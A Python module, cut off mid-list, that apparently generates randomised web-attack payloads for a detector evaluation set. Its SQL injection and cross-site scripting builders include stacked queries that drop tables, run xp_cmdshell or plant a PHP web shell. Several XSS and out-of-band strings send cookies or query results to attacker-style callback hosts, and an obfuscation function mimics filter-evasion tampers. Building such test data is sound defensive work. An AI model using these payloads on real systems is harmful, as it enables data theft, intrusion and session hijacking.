"""Attack payload builders for the beyond-CSIC evaluation set.

Hand-written for this project from general knowledge of web attacks (OWASP testing guide material,
public cheat sheets, well-known CVE exploit requests, scanner behaviour). Nothing here is copied from
a dataset or from this repository's training generator.

Every builder takes a random.Random and returns (technique, payload, meta). meta keys:
  kinds:  parameter kinds the payload is typically aimed at (None = any string parameter)
  pre:    the payload already carries the attacker's own percent-encoding (do not re-encode '%')
  struct: structural injection (nosql / prototype pollution): handled by the placer
"""

import base64
import struct as _struct

# ---------------------------------------------------------------- shared pieces

OAST = ["oast.pro", "oast.live", "oast.site", "oast.online", "oastify.com", "burpcollaborator.net",
        "interact.sh", "dnslog.cn", "requestbin.net", "canarytokens.com", "xss.ht", "ceye.io"]
EVIL = ["evil.com", "attacker.net", "evil-cdn.io", "pwn.example.org", "att4ck3r.xyz", "hax.ru",
        "malicious.site", "c2.badhost.top", "exfil.zone", "redteam.example"]
ATTACKER_IPS = ["203.0.113.66", "198.51.100.23", "45.33.32.156", "185.220.101.4", "91.219.236.12",
                "104.248.1.9", "5.188.62.140", "194.26.29.113"]


def sub(r):
    return "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randint(8, 20)))


def oast(r):
    return sub(r) + "." + r.choice(OAST)


def evil(r):
    return r.choice(EVIL)


def aip(r):
    return r.choice(ATTACKER_IPS)


def rword(r, n=4):
    return "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(n))


def m(kinds=None, **kw):
    d = {"kinds": kinds}
    d.update(kw)
    return d


TEXTY = ["search", "text", "title", "name", "comment", "note", "username", "bio", "post", "category", "city",
         "tag", "coupon", "status", "addr", "html", "fullname"]
IDISH = ["int", "id", "page", "qty", "price", "amount", "port", "sku", "dim", "limit"]
SORTISH = ["sort", "order", "fields"]
URLISH = ["url", "redirect", "host", "callback"]
FILEISH = ["file", "dirpath", "template", "lang", "slug"]
HOSTISH = ["host", "ip", "file", "name", "text", "url"]

# ---------------------------------------------------------------- SQL injection

SQL_KW = ["UNION", "SELECT", "FROM", "WHERE", "AND", "OR", "SLEEP", "ORDER", "BY", "CONCAT", "NULL", "ALL",
          "INFORMATION_SCHEMA", "WAITFOR", "DELAY", "LIMIT", "EXEC", "CAST", "CASE", "WHEN", "THEN"]


def _q(r):
    return r.choice(["'", "'", "'", "'", '"', "')", "'))", '")', "`"])


def _cm(r):
    return r.choice(["-- -", "--", "-- ", "#", "/*", ";--", "-- x", "-- +", "--\n"])


def _v(r):
    return r.choice(["1", "2", "10", "42", "1337", "admin", "test", "a", "x", "shoes", "", "-1", "999999"])


def _nulls(r, extra=None):
    n = r.randint(1, 9)
    cols = ["NULL"] * n
    if extra:
        cols[r.randrange(n)] = extra
    return ",".join(cols)


def _ints(r, extra=None):
    n = r.randint(2, 10)
    cols = [str(i + 1) for i in range(n)]
    if extra:
        cols[r.randrange(n)] = extra
    return ",".join(cols)


def sqli(r):
    q, cm, v, n = _q(r), _cm(r), _v(r), r.randint(1, 9999)
    s = r.choice([3, 5, 5, 7, 10, 15, 20])
    tbl = r.choice(["users", "admin", "accounts", "customers", "wp_users", "members", "tbl_user", "login",
                    "employees", "credit_cards", "orders", "sessions"])
    col = r.choice(["password", "passwd", "pass", "pwd", "hash", "user_pass", "email", "token", "api_key",
                    "card_number", "secret"])
    ucol = r.choice(["username", "user", "login", "email", "user_login", "name"])
    leak = r.choice(["@@version", "version()", "user()", "database()", "current_user", "@@hostname",
                     "schema()", "system_user()", "@@datadir"])
    t = r.randrange(16)
    if t == 0:
        tech = "tautology"
        p = r.choice([
            f"{v}{q} OR {q}1{q}={q}1", f"{v}{q} or 1=1{cm}", f"{q} OR {n}={n}{cm}", f"{v}{q} OR {q}x{q}={q}x",
            f"{q} or {q}{q}={q}", f"{q}={q}", f"{q} or true{cm}", f"{q}||{q}1{q}={q}1", f"{v}{q} OR 1 {cm}",
            f"{v}{q} or {q}a{q} like {q}a", f"{q} OR {ucol} IS NOT NULL{cm}", f"{v}{q} OR 2>1{cm}",
            f"{q} or 1=1 limit 1{cm}", f"{q}) or ({q}a{q}={q}a", f"{v}') OR ('1'='1", f"{q} OR 'abc'='abc'{cm}",
            f"{q} OR {n}-{n}=0{cm}", f"{q}%20or%201=1{cm}", f"{q} OR x={q}x", f"x{q} OR name LIKE {q}%",
            f"{q} or not false{cm}", f"{q}=0{cm}", f"{q}!=1{cm}", f"{q} OR 0x61=0x61{cm}",
        ])
    elif t == 1:
        tech = "auth_bypass"
        u = r.choice(["admin", "administrator", "root", "sa", "superuser", "admin@" + r.choice(["corp.local", "example.com"])])
        p = r.choice([f"{u}{q}{cm}", f"{u}{q} #", f"{u}{q}/*", f"{u}{q} or {q}1{q}={q}1{cm}", f"{u}{q})-- -",
                      f"{u}{q} OR 1=1 LIMIT 1{cm}", f'"or""="', f"{q} or 1=1 --", f"{u}{q} AND 1=1{cm}",
                      f"{u}{q} -- -", f"' UNION SELECT 1,'{u}','81dc9bdb52d04dc20036dbd8313ed055',1{cm}"])
    elif t == 2:
        tech = "union"
        p = r.choice([
            f"{v}{q} UNION ALL SELECT {_nulls(r)}{cm}",
            f"{v}{q} UNION SELECT {_nulls(r, leak)}{cm}",
            f"-{n} UNION SELECT {_ints(r, 'group_concat(table_name)')} FROM information_schema.tables WHERE table_schema=database(){cm}",
            f"{q} UNION SELECT {ucol},{col} FROM {tbl}{cm}",
            f"{v}{q} union select {_ints(r, 'concat(' + ucol + ',0x3a,' + col + ')')} from {tbl}{cm}",
            f"0 union select {_ints(r, 'load_file(0x2f6574632f706173737764)')}",
            f"{q} UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name={q}{tbl}{q}{cm}",
            f"{v}{q} UNION ALL SELECT NULL,CONCAT(0x71786b7a71,IFNULL(CAST({col} AS NCHAR),0x20),0x7170706271),NULL FROM {tbl}{cm}",
            f"{q} union select null,table_name,null from all_tables{cm}",
            f"{q} UNION SELECT name,NULL FROM master..sysdatabases{cm}",
            f"{q} UNION SELECT NULL,banner FROM v$version{cm}",
            f"{q} UNION SELECT sql,NULL FROM sqlite_master{cm}",
            f"{q} UNION SELECT NULL,string_agg(usename,','),NULL FROM pg_user{cm}",
            f"{v}{q} UNION SELECT {_ints(r)} INTO OUTFILE '/var/www/html/s.php'{cm}",
            f"-{n}{q} union distinctrow select {_ints(r, leak)}{cm}",
            f"{v} UNION SELECT {_ints(r, 'password')} FROM {tbl} WHERE {ucol}='admin'",
        ])
    elif t == 3:
        tech = "error_based"
        p = r.choice([
            f"{v}{q} AND extractvalue(1,concat(0x7e,(SELECT {leak}),0x7e)){cm}",
            f"{v}{q} AND updatexml(1,concat(0x7e,(select {col} from {tbl} limit 1)),1){cm}",
            f"{v}{q} AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT({leak},FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a){cm}",
            f"{v}{q} AND 1=CONVERT(int,@@version){cm}",
            f"{v}{q} AND 1=CAST((SELECT TOP 1 name FROM sysobjects WHERE xtype='U') AS int){cm}",
            f"{v}{q} AND 1=CAST(version() AS int){cm}",
            f"{v}{q} and 1=cast((select {col} from {tbl} limit 1) as numeric){cm}",
            f"{v}{q} AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual)){cm}",
            f"{v}{q} AND 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1)){cm}",
            f"{v}{q} AND EXP(~(SELECT * FROM (SELECT {leak})x)){cm}",
            f"{v}{q} AND GTID_SUBSET(CONCAT(0x7e,(SELECT {leak}),0x7e),1){cm}",
            f"{v}{q} AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,{leak})) USING utf8))){cm}",
            f"{v}{q} AND 1 IN (SELECT @@version){cm}",
            f"{v}{q};SELECT 1/0{cm}",
            f"{v}{q} AND 1=(SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END){cm}",
        ])
    elif t == 4:
        tech = "boolean_blind"
        a, b = r.randint(1000, 9999), r.randint(1000, 9999)
        w = rword(r)
        p = r.choice([
            f"{v}{q} AND 1=1{cm}", f"{v}{q} AND 1=2{cm}", f"{v}{q} AND {a}={a} AND {q}{w}{q}={q}{w}",
            f"{v}) AND {a}={a} AND ({b}={b}", f"{v}{q} AND SUBSTRING({leak},1,1)={q}{r.choice('5812')}",
            f"{v}{q} AND ASCII(SUBSTR((SELECT {col} FROM {tbl} WHERE {ucol}='admin'),{r.randint(1, 32)},1))>{r.randint(48, 122)}{cm}",
            f"{v} AND (SELECT COUNT(*) FROM {tbl})>0", f"{v}{q} AND LENGTH(database())={r.randint(3, 12)}#",
            f"{v}{q} AND (SELECT {q}a{q} FROM {tbl} LIMIT 1)={q}a", f"{v}{q} AND {a}={b}{cm}",
            f"{v}{q} AND MID(VERSION(),1,1) LIKE 5{cm}", f"{v}' RLIKE (SELECT (CASE WHEN ({a}={a}) THEN 0x{w.encode().hex()} ELSE 0x28 END)) AND '{w}'='{w}",
            f"{v}{q} AND ORD(MID((SELECT IFNULL(CAST(COUNT(*) AS NCHAR),0x20) FROM {tbl}),1,1))>{r.randint(48, 57)}{cm}",
            f"{v}{q} AND EXISTS(SELECT * FROM {tbl}){cm}", f"{v}{q} AND 'a'='a", f"{v}%' AND {a}={a} AND '%'='",
        ])
    elif t == 5:
        tech = "time_blind"
        a = r.randint(1000, 9999)
        w = rword(r)
        p = r.choice([
            f"{v}{q} AND SLEEP({s}){cm}", f"{v} AND (SELECT * FROM (SELECT(SLEEP({s})))a)",
            f"{v}{q} OR IF(1=1,SLEEP({s}),0)#", f"{v}{q} AND BENCHMARK({s}000000,MD5(1))#",
            f"{v}{q}; WAITFOR DELAY '0:0:{s}'{cm}", f"{v}; IF(1=1) WAITFOR DELAY '00:00:{s:02d}'{cm}",
            f"{v}{q}; SELECT pg_sleep({s}){cm}", f"{v}{q} AND 1=(SELECT 1 FROM pg_sleep({s})){cm}",
            f"{v}||pg_sleep({s})", f"{v}{q} AND 1=DBMS_PIPE.RECEIVE_MESSAGE('{w}',{s}){cm}",
            f"{v}{q} AND {a}=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2)))){cm}",
            f"{v}' AND (SELECT {a} FROM (SELECT(SLEEP({s}))){w}) AND '{w}'='{w}",
            f"0'XOR(if(now()=sysdate(),sleep({s}),0))XOR'Z", f'0"XOR(if(now()=sysdate(),sleep({s}),0))XOR"Z',
            f"if(now()=sysdate(),sleep({s}),0)", f"(select(0)from(select(sleep({s})))v)/*'+(select(0)from(select(sleep({s})))v)+'\"+(select(0)from(select(sleep({s})))v)+\"*/",
            f"{v}'; SELECT CASE WHEN (1=1) THEN pg_sleep({s}) ELSE pg_sleep(0) END{cm}",
            f"{v}) AND SLEEP({s}) AND ({a}={a}", f"{v}' WAITFOR DELAY '0:0:{s}'--", f"{v}{q} AND SLEEP({s}) AND {q}1{q}={q}1",
            f"{v}{q} AND MAKE_SET(1<2,SLEEP({s})){cm}", f"{v}' and (select*from(select(sleep({s})))a)--+",
        ])
    elif t == 6:
        tech = "stacked"
        p = r.choice([
            f"{v}{q}; DROP TABLE {tbl};{cm}", f"{v}; INSERT INTO {tbl}({ucol},{col}) VALUES('{rword(r)}','{rword(r, 8)}'){cm}",
            f"{v}{q}; EXEC xp_cmdshell 'whoami'{cm}", f"{v}{q}; exec master..xp_dirtree '//{oast(r)}/a'{cm}",
            f"{v}{q}; COPY (SELECT '') TO PROGRAM 'curl http://{oast(r)}/'{cm}",
            f"{v}; UPDATE {tbl} SET role='admin' WHERE id={n}{cm}", f"{v}{q}; SHUTDOWN{cm}",
            f"{v}{q};DECLARE @q varchar(99);SET @q='\\\\{oast(r)}\\x';exec master.dbo.xp_dirtree @q;{cm}",
            f"{v}{q}; EXEC sp_configure 'show advanced options',1;RECONFIGURE{cm}",
            f"{v}; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'id'{cm}",
            f"{v}{q}; SELECT pg_read_file('/etc/passwd'){cm}", f"{v}{q}; ATTACH DATABASE '/var/www/lol.php' AS lol; CREATE TABLE lol.pwn (dataz text); INSERT INTO lol.pwn (dataz) VALUES ('<?php system($_GET[\"c\"]); ?>');{cm}",
            f"{v}{q}; GRANT ALL PRIVILEGES ON *.* TO '{rword(r)}'@'%'{cm}", f"{v}{q};select @@version;{cm}",
        ])
    elif t == 7:
        tech = "second_order"
        p = r.choice([
            f"admin{q}{cm}", f"{rword(r)}{q} UNION SELECT {col} FROM {tbl} WHERE {q}1{q}={q}1",
            f"{rword(r, 5)}'); DROP TABLE sessions;{cm}", f"x' || (SELECT {col} FROM {tbl} LIMIT 1) || '",
            f"{r.choice(['Bob', 'Alice', 'Eve'])}' , is_admin=1 WHERE {ucol}='{r.choice(['bob', 'alice', 'eve'])}'{cm}",
            f"Robert'); DROP TABLE students;--", f"{rword(r)}' AND (SELECT 1 FROM (SELECT SLEEP({s}))x) AND '1'='1",
            f"{rword(r)}\\' OR 1=1{cm}", f"test'||(select {leak})||'",
        ])
    elif t == 8:
        tech = "order_by_limit"
        col2 = r.choice(["name", "price", "created_at", "id", "title", "date"])
        p = r.choice([
            f"{col2} ASC, (SELECT 1 FROM (SELECT SLEEP({s}))x)", f"(CASE WHEN (1=1) THEN {col2} ELSE price END)",
            f"{col2},(select case when (substring({leak},1,1)='8') then 1 else 1/0 end)",
            f"1 desc,if(1=1,1,(select 1 union select 2))", f"{r.randint(5, 40)}{cm}", f"{col2} ORDER BY {r.randint(5, 40)}{cm}",
            f"1{q} ORDER BY {r.randint(2, 30)}{cm}", f"{col2} {r.choice(['asc', 'desc'])} PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)",
            f"1 LIMIT 1 INTO @,@,@", f"10 offset (select 1 from pg_sleep({s}))", f"{col2},extractvalue(1,concat(0x7e,user()))",
            f"(select 1 from dual where 1=1 and sleep({s}))", f"{col2}` DESC, (SELECT {leak})#",
            f"IF(1=1,{col2},price)", f"{col2} LIMIT 0,1 UNION SELECT {_nulls(r)}", f"{col2}, (SELECT {col} FROM {tbl})",
            f"{col2}::int", f"{col2} COLLATE (SELECT {leak})",
        ])
    elif t == 9:
        tech = "numeric_context"
        p = r.choice([
            f"{n} OR 1=1", f"{n} or 1", f"-{n} UNION SELECT {_ints(r, leak)}", f"{n} AND 1=2", f"{n}*if(1=1,sleep({s}),0)",
            f"({n})OR(1=1)", f"{n} rlike (select (case when (1=1) then 1 else 0x28 end))", f"{n} AND {n}={n}",
            f"{n}/**/OR/**/1=1", f"{n} procedure analyse()", f"{n};SELECT {leak}", f"{n}-sleep({s})",
            f"{n} AND ELT(1,SLEEP({s}))", f"{n} OR (SELECT {col} FROM {tbl} LIMIT 1) LIKE 'a%'", f"{n}%20or%201%3D1",
            f"{n}) OR (1=1", f"0x{n:x} OR 1=1", f"{n} HAVING 1=1", f"{n} GROUP BY {col} HAVING 1=1--",
        ])
        return tech, p, m(IDISH + ["search", "text"])
    elif t == 10:
        tech = "json_operators"
        key = r.choice(["role", "is_admin", "plan", "admin", "tier", "scopes"])
        p = r.choice([
            f"{v}{q} OR data->>'{key}'='admin'{cm}", f"{v}' AND (info->'a'->>'b')::int>0{cm}",
            f"{v}{q} OR JSON_EXTRACT(profile,'$.{key}')=true{cm}", f"{v}' OR json_extract(attrs,'$.{key}')=1{cm}",
            f"{v}' AND '{{\"a\":1}}'::jsonb @> '{{\"a\":1}}'{cm}", f"{v}' OR settings ? '{key}'{cm}",
            f"{v}' UNION SELECT json_agg({tbl})::text FROM {tbl}{cm}", f"{v}' AND JSON_LENGTH((SELECT JSON_ARRAYAGG({col}) FROM {tbl}))>0{cm}",
            f"{v}' OR metadata #>> '{{{key}}}' IS NOT NULL{cm}", f"{v}' || (SELECT row_to_json(u)::text FROM {tbl} u LIMIT 1) || '",
            f"{v}' AND JSON_VALUE(doc,'$.{key}')='true'{cm}", f"{v}') OR json_valid(1){cm}",
        ])
    elif t == 11:
        tech = "oob"
        o = oast(r)
        p = r.choice([
            f"{v}{q} UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT {col} FROM {tbl} LIMIT 1),'.{o}\\\\a')){cm}",
            f"{v}{q} || UTL_HTTP.REQUEST('http://{o}/'||(SELECT user FROM dual)){cm}",
            f"{v}{q} AND 1=(SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://{o}/\">%x;]>'),'/l') FROM dual){cm}",
            f"{v}{q}; exec master..xp_dirtree '\\\\{o}\\x'{cm}", f"{v}{q} AND (SELECT dblink_connect('host={o} user=a password=b dbname=c')){cm}",
            f"{v}{q}; SELECT * FROM OPENROWSET('SQLOLEDB','{o}';'sa';'x','select 1'){cm}",
            f"{v}' AND (SELECT UTL_INADDR.get_host_address((SELECT user FROM dual)||'.{o}') FROM dual) IS NOT NULL{cm}",
        ])
    elif t == 12:
        tech = "mssql"
        p = r.choice([
            f"{v}'; EXEC('sel'+'ect 1'){cm}", f"{v}' AND 1=(SELECT IS_SRVROLEMEMBER('sysadmin')){cm}",
            f"{v}' UNION SELECT TOP 1 name,NULL FROM sys.tables{cm}", f"{v}' AND DB_NAME()='{rword(r)}'{cm}",
            f"{v}';EXEC master.dbo.xp_cmdshell 'ping {oast(r)}'{cm}", f"{v}' AND SUSER_SNAME()='sa'{cm}",
            f"{v}' HAVING 1=1{cm}", f"{v}' GROUP BY {tbl}.{ucol} HAVING 1=1{cm}", f"{v}'+(SELECT @@SERVERNAME)+'",
            f"{v}';EXEC sp_addlogin '{rword(r)}','{rword(r, 8)}'{cm}", f"{v}' AND 1=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3){cm}",
        ])
    elif t == 13:
        tech = "oracle"
        p = r.choice([
            f"{v}' || (SELECT banner FROM v$version WHERE rownum=1) || '", f"{v}' AND ROWNUM=1 AND '1'='1",
            f"{v}' UNION SELECT username,password FROM all_users{cm}", f"{v}' AND (SELECT COUNT(*) FROM all_tables)>0{cm}",
            f"{v}' AND 1=(SELECT 1 FROM dual WHERE DBMS_LOCK.SLEEP({s}) IS NULL){cm}", f"{v}' OR 1=1 AND ROWNUM<2{cm}",
            f"{v}'||chr(65)||chr(66)||'", f"{v}' AND SYS.DBMS_EXPORT_EXTENSION.GET_DOMAIN_INDEX_TABLES('a','b','c','d','e'){cm}",
        ])
    elif t == 14:
        tech = "postgres"
        p = r.choice([
            f"{v}';SELECT current_setting('is_superuser'){cm}", f"{v}' AND 1=(SELECT CASE WHEN (SUBSTR(version(),1,10)='PostgreSQL') THEN 1 ELSE 0 END){cm}",
            f"{v}'::text||(SELECT string_agg(datname,',') FROM pg_database)||'", f"{v}$$||(select version())||$$",
            f"{v}' AND 1=(SELECT 1 FROM pg_stat_activity LIMIT 1){cm}", f"{v}';SELECT lo_import('/etc/passwd'){cm}",
            f"{v}' AND chr(65)||chr(66)='AB'{cm}", f"{v}' AND (SELECT setting FROM pg_settings WHERE name='data_directory') IS NOT NULL{cm}",
        ])
    else:
        tech = "sqlite"
        p = r.choice([
            f"{v}' || sqlite_version() || '", f"{v}' UNION SELECT name,sql FROM sqlite_schema{cm}",
            f"{v}' AND 1=(SELECT COUNT(*) FROM sqlite_master WHERE type='table'){cm}", f"{v}' AND substr(sqlite_version(),1,1)='3'{cm}",
            f"{v}' AND unicode(substr((SELECT {col} FROM {tbl} LIMIT 1),1,1))>{r.randint(48, 122)}{cm}",
            f"{v}' AND randomblob(1000000000){cm}", f"{v}' UNION SELECT group_concat(tbl_name),NULL FROM sqlite_master{cm}",
        ])
    kinds = None
    if tech == "order_by_limit":
        kinds = SORTISH + ["int", "page"]
    elif tech in ("auth_bypass",):
        kinds = ["username", "email", "name"]
    elif tech == "second_order":
        kinds = ["name", "username", "fullname", "addr", "title", "bio", "city", "comment"]
    return tech, p, m(kinds)


def sqli_obfuscate(r, p):
    """sqlmap-tamper-like rewrites. Returns (payload, note)."""
    t = r.randrange(10)
    import re
    if t == 0:
        def mc(w):
            return "".join(c.upper() if r.random() < .5 else c.lower() for c in w.group(0))
        return re.sub(r"(?i)\b(union|select|from|where|and|or|sleep|order|by|concat|null|all|information_schema|waitfor|delay|limit)\b", mc, p), "mixed-case"
    if t == 1:
        def cm(w):
            s = w.group(0)
            k = max(1, len(s) // 2)
            return s[:k] + "/**/" + s[k:]
        return re.sub(r"(?i)\b(union|select|from|where|sleep|concat|information_schema|waitfor)\b", cm, p), "comment-in-keyword"
    if t == 2:
        return re.sub(r"(?i)\b(union|select|from|and|or|where)\b", lambda w: "/*!" + r.choice(["50000", "12345", "44444", ""]) + w.group(0) + "*/", p), "versioned-comment"
    if t == 3:
        ws = r.choice(["/**/", "\t", "\n", "\r\n", "\x0b", "\x0c", "\xa0", "/*" + rword(r, 3) + "*/", "  "])
        return p.replace(" ", ws), "whitespace:" + repr(ws)
    if t == 4:
        return "\x00" + p, "nul-prefix"
    if t == 5:
        return p.replace(" OR ", " || ").replace(" AND ", " && ").replace(" or ", " || ").replace(" and ", " && "), "symbolic-logic"
    if t == 6:
        return re.sub(r"=", " LIKE ", p, count=1) if "=" in p else p, "like-for-equals"
    return p, "plain"


# ---------------------------------------------------------------- XSS

def xss(r):
    o = oast(r)
    fn = r.choice(["alert(1)", "alert(document.domain)", "confirm(1)", "prompt(1)", "alert(document.cookie)",
                   "print()", "alert`1`", "alert(origin)", "top['al'+'ert'](1)", "window['alert'](0)",
                   "eval(atob('YWxlcnQoMSk='))", f"fetch('//{o}/?c='+document.cookie)", "alert(String.fromCharCode(88,83,83))",
                   "(alert)(1)", "self[`al`+`ert`](1)", "import('//" + o + "/x.js')"])
    t = r.randrange(11)
    if t == 0:
        tech = "script_tag"
        p = r.choice([f"<script>{fn}</script>", f"\"><script>{fn}</script>", f"'><script>{fn}</script>",
                      f"<script src=//{o}/x.js></script>", f"</script><script>{fn}</script>", f"<ScRiPt>{fn}</sCrIpT>",
                      f"<scr<script>ipt>{fn}</scr</script>ipt>", f"<script type=module>{fn}</script>",
                      f"\"><script src=https://{sub(r)}.xss.ht></script>", f"<script>new Image().src='https://{o}/c?'+document.cookie</script>",
                      f"<script\x20type=\"text/javascript\">{fn};</script>", f"</title><script>{fn}</script>", f"</textarea><script>{fn}</script>"])
    elif t == 1:
        tech = "event_handler"
        p = r.choice([f"<img src=x onerror={fn}>", f"<body onload={fn}>", f"<details open ontoggle={fn}>",
                      f"<input autofocus onfocus={fn}>", f"<video><source onerror=\"{fn}\">", f"<marquee onstart={fn}>",
                      f"<div onpointerover=\"{fn}\">MOVE HERE</div>", f"<iframe onload={fn}>", f"<select autofocus onfocus={fn}>",
                      f"<audio src=x onerror={fn}>", f"<img src=1 oNeRrOr={fn}>", f"<style onload={fn}></style>",
                      f"<a onmouseover={fn}>hover</a>", f"<xss id=x tabindex=1 onfocusin={fn}></xss>", f"<img/src/onerror={fn}>",
                      f"<svg/onload={fn}>", f"<textarea autofocus onfocus={fn}>", f"<keygen autofocus onfocus={fn}>",
                      f"<body onpageshow={fn}>", f"<img src=x:x onerror={fn}//", f"<object data=x onerror={fn}>",
                      f"<x contenteditable onblur={fn}>lose focus!", f"<image src=validimage.png onloadend={fn}>",
                      f"<img src=\"x\"/onerror=\"{fn}\">", f"<d3v/onmouseleave=[2].some(confirm)>click"])
    elif t == 2:
        tech = "attribute_breakout"
        p = r.choice([f"\" onmouseover=\"{fn}", f"' autofocus onfocus='{fn}", f"\"><img src=x onerror={fn}>",
                      f"\" style=\"animation-name:rotation\" onanimationstart=\"{fn}", f"'><svg onload={fn}>",
                      f"\" accesskey=\"x\" onclick=\"{fn}", f"\"autofocus/onfocus=\"{fn}", f"x\" onerror=\"{fn}\" a=\"",
                      f"\"><iframe src=\"javascript:{fn}\">", f"' onpointerenter='{fn}' '", f"\"></a><a href=javascript:{fn}>x</a>",
                      f"\"/><body onload={fn}>"])
    elif t == 3:
        tech = "javascript_url"
        p = r.choice([f"javascript:{fn}", f"JaVaScRiPt:{fn}", f"javascript://%0a{fn}", f"java\tscript:{fn}",
                      f"&#106;avascript:{fn}", f"  javascript:{fn}", f"javascript:void(0);{fn}", f"jav&#x09;ascript:{fn}",
                      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
                      f"javascript:/*--></title></style></textarea></script><svg/onload={fn}>", f"\x01javascript:{fn}",
                      f"javascript&colon;{fn}", f"data:text/html,<script>{fn}</script>", f"java%0d%0ascript%0d%0a:{fn}"])
        return tech, p, m(URLISH + ["url", "redirect", "text"], pre="%" in p)
    elif t == 4:
        tech = "svg_mathml"
        p = r.choice([f"<svg><script>{fn}</script></svg>", f"<svg><animate onbegin={fn} attributeName=x dur=1s>",
                      f"<svg><a><animate attributeName=href values=javascript:{fn} /><text x=20 y=20>Click</text></a></svg>",
                      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                      f"<svg><foreignObject><iframe onload={fn}></iframe></foreignObject></svg>",
                      f"<math href=\"javascript:{fn}\">CLICK</math>", f"<svg><set attributeName=onmouseover to={fn}>",
                      f"<svg><discard onbegin={fn}>", f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{fn}\"/>",
                      f"<math><maction actiontype=statusline xlink:href=javascript:{fn}>Click<mtext>http://x</mtext></maction></math>",
                      "<svg><style><img src=x onerror=alert(1)></style></svg>", f"<svg><title><![CDATA[</title><script>{fn}</script>]]></svg>"])
    elif t == 5:
        tech = "dom_js_context"
        p = r.choice([f"');{fn};//", f"\";{fn};//", f"'-{fn}-'", f"\\'-{fn}//", f"</script><img src=x onerror={fn}>",
                      f"{fn}//", f"`;{fn};`", f"${{{fn}}}", f"`-{fn}-`", f"'+{fn}+'", f"\"}};{fn};//",
                      f"-{fn}-", f"1;{fn}", f"x'}});{fn};({{'", f"\\u0027-{fn}-\\u0027"])
        if p.startswith("$") or p.startswith("`"):
            tech = "template_literal"
    elif t == 6:
        tech = "client_template"
        p = r.choice(["{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}",
                      "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
                      "<div ng-app ng-csp><div ng-focus=\"x=$event.view.window;x.alert(1)\" autofocus tabindex=0>",
                      "[[constructor.constructor('alert(1)')()]]", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
                      "{{_openBlock.constructor('alert(1)')()}}", "<x v-if=_c.constructor('alert(1)')()>",
                      "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}"])
    elif t == 7:
        tech = "polyglot"
        p = r.choice(["jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
                      "'\"--></style></script><svg onload=alert(1)>", "\"'><img src=x onerror=alert(1)>{{7*7}}${7*7}",
                      "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)``>",
                      "'\"><svg/onload=prompt(5);>{{7*7}}", "\";alert(1);//\"><script>alert(1)</script>",
                      "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>"])
        return tech, p, m(None, pre="%0" in p)
    elif t == 8:
        tech = "entity_encoded"
        p = r.choice(["&#x3C;img src=x onerror=alert(1)&#x3E;", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
                      "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
                      "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=x onerror=\"&#x61;lert(1)\">",
                      "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\">", "<svg><script>&#97;lert(1)</script>",
                      "&#60;svg onload&#61;alert&#40;1&#41;&#62;", "<a href=\"jav&#x61;script&colon;alert(1)\">click</a>",
                      "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003cimg src=x onerror=alert(1)\\u003e",
                      "<img src=x onerror=\\u0061\\u006c\\u0065\\u0072\\u0074(1)>", "<script>\\u0061lert(1)</script>"])
    elif t == 9:
        tech = "pre_encoded"
        p = r.choice(["%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%3Csvg%2Fonload%3Dalert(1)%3E", "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
                      "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
                      "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE", "%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
                      "%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B", "%3Cimg%20src%3D1%20onerror%3Dalert%281%29%3E"])
        return tech, p, m(None, pre=True)
    else:
        tech = "tag_injection"
        p = r.choice([f"<iframe src=\"javascript:{fn}\"></iframe>", f"<object data=\"javascript:{fn}\">", f"<embed src=\"javascript:{fn}\">",
                      f"<base href=\"//{o}/\">", f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{fn}\">",
                      f"<form action=javascript:{fn}><input type=submit>", f"<button formaction=javascript:{fn}>x</button>",
                      f"<isindex action=javascript:{fn} type=image>", f"<link rel=stylesheet href=//{o}/x.css>",
